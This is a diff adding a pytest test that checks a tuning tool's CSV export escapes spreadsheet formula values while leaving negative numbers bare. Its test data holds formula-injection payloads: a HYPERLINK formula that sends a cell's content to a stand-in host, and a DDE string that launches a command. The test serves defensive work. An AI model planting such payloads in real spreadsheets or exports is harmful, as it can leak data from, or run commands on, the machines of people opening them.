@@ -315,6 +315,53 @@ def test_export_csv_parses_back(capsys: pytest.CaptureFixture[str], store: Stora
                 assert row[key] == str(value), key
 
 
+FORMULAS = {
+    "eq": '=HYPERLINK("http://x.example/"&A1,"go")',
+    "at": "@SUM(A1:A9)",
+    "minus": "-2+3",
+    "plus": "+cmd|' /C calc'!A0",
+    "tab": "\t=1+2",
+    "cr": "\r=1+2",
+}
+
+
+def test_export_csv_escapes_formulas_but_not_numbers(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    db = tmp_path / "studies.db"
+
+    def objective(example: Any, feedback: Any) -> float:
+        for key, text in FORMULAS.items():
+            feedback.set_metadata(key, text)
+        feedback.set_metadata("plain", "conv3x3")
+        feedback.set_metadata("negative", -1.5)
+        feedback.set_metadata("count", -3)
+        return -1.5
+
+    space = am.Dict(x=am.floatv(-2.0, -1.0))
+    am.tune(objective, space, am.algorithms.Random(seed=1), 2, name="s", storage=str(db))
+    out = tmp_path / "s.csv"
+    assert main(["--storage", str(db), "export", "s", "--format", "csv", "-o", str(out)]) == 0
+    capsys.readouterr()
+    with out.open(encoding="utf-8", newline="") as stream:
+        text = stream.read()
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == 2
+    for row in rows:
+        for key, formula in FORMULAS.items():
+            assert row[f"metadata.{key}"] == "'" + formula, key  # shown as text, not run
+        assert row["metadata.plain"] == "conv3x3"
+        # Numbers stay numbers: negative ones are not escaped, nor quoted.
+        assert float(row["reward"]) == -1.5 and row["reward"] == "-1.5"
+        assert row["metadata.negative"] == "-1.5" and row["metadata.count"] == "-3"
+        assert -2.0 <= float(row["dna.x"]) <= -1.0
+    # Every text cell is quoted; the numbers are bare.
+    first = text.split("\n")[1]
+    assert first.startswith('1,"completed",-1.5,')
+    assert '"\'=HYPERLINK(""http://x.example/""&A1,""go"")"' in first
+    assert ',"conv3x3",-1.5,-3,' in first
+
+
 def test_export_json_parses_back(capsys: pytest.CaptureFixture[str], store: Storage) -> None:
     code, out, _ = run(capsys, store, "export", "demo", "--format", "json")
     assert code == 0
